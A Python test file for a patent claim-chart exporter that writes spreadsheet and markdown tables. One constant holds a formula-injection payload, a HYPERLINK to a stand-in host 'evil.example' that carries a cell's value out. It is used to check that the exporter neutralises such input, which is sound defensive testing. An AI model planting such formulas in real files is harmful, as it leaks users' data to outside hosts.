"""The claim chart as a file: every row with its versions, essentiality apart, harmless in a spreadsheet."""

import io
import re
from dataclasses import replace

from openpyxl import load_workbook

from bot.reports.claim_chart import Chart, as_markdown, as_workbook
from flows.linkage.codes import Essentiality
from flows.linkage.items import Claim
from flows.linkage.register import Register
from tests.flows.linkage.populations import PICTURE, population
from tests.flows.linkage.registers import TODAY, application, covers, declaration, family, reads_on, register, standard
from tests.wordbooks import word_book

BOOK = word_book()
WORST = '=HYPERLINK("http://evil.example/"&A1,"Pay") | \x0b*bold*'


def chart(book: Register, locale: str = "en") -> Chart:
    return Chart(book, "LD-12 Radar", BOOK.for_locale(locale), TODAY, {"U1": "林岚", "U2": "Emma"})


def table(given: Chart) -> list[dict[str, str]]:
    """The rows of the workbook under its headings."""
    sheet = load_workbook(io.BytesIO(as_workbook(given))).active
    assert sheet is not None
    rows = [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]
    head = next(n for n, row in enumerate(rows) if not any(row)) + 1
    return [dict(zip(rows[head], row, strict=True)) for row in rows[head + 1 :]]


def one() -> Register:
    claims = (Claim(number=1, text="A radar", independent=True),)
    return register(families=(family(application(publication_number="CN1A"), claims=claims),))


def test_a_row_names_claim_clause_and_both_versions() -> None:
    row = replace(reads_on(element="a sweep", version="WD"), recheck="clause_changed", why="4.2 of the notes")
    (line,) = table(chart(replace(one(), links=(covers(), row))))
    assert line == {
        "Patent": "P1", "Title": "Family 1", "Application": "CN1A", "Claim": "1", "Claim element": "a sweep",
        "Claim text": "A radar", "Standard": "S1 Standard 1", "Clause": "5.1", "Clause title": "Sweep",
        "Charted on version": "WD", "Present version": "CD", "To be checked again": "Yes: the clause has changed",
        "Charted by": "林岚", "Reads on it": "Not confirmed yet", "Reason": "4.2 of the notes",
    }  # fmt: skip


def test_confirmed_and_rejected_are_told_apart() -> None:
    rows = (
        replace(reads_on(), essentiality=Essentiality.CONFIRMED, confirmed_by="U2"),
        replace(reads_on(clause="9"), essentiality=Essentiality.REJECTED),
    )
    assert [line["Reads on it"] for line in table(chart(replace(one(), links=rows)))] == ["Confirmed by Emma", "No"]


def test_declared_never_stands_alone() -> None:
    told = as_markdown(chart(replace(one(), declarations=(declaration(families=("fam_1", "fam_2")),), links=())))
    assert "Families: 0 charted, 0 confirmed by a second person; 1 declared, 1 of them not charted" in told.replace(
        "\\", ""
    )


def test_no_cell_begins_a_formula_and_no_text_leaves_its_cell() -> None:
    row = reads_on(element=WORST, clause=WORST)
    book = replace(one(), links=(row,), standards=(standard(reference=WORST),))
    (line,) = table(chart(book))
    assert line["Claim element"].startswith("'=")
    markdown = as_markdown(chart(book))
    (text,) = [shown for shown in markdown.splitlines() if shown.startswith("| P1")]
    assert text.replace("\\|", "").count("|") == 16
    assert "\\*bold\\*" in text


def test_both_files_hold_every_row_in_both_languages() -> None:
    book = population(PICTURE, chinese=True)
    for locale, heading in (("en", "Claim element"), ("zh_CN", "技术要素")):
        rows = table(chart(book, locale))
        assert len(rows) == 150
        assert heading in rows[0]
        assert len(re.findall(r"^\| P\d", as_markdown(chart(book, locale)), re.M)) == 150


def test_a_chart_without_rows_is_a_table_of_headings() -> None:
    assert table(chart(replace(one(), links=()))) == []
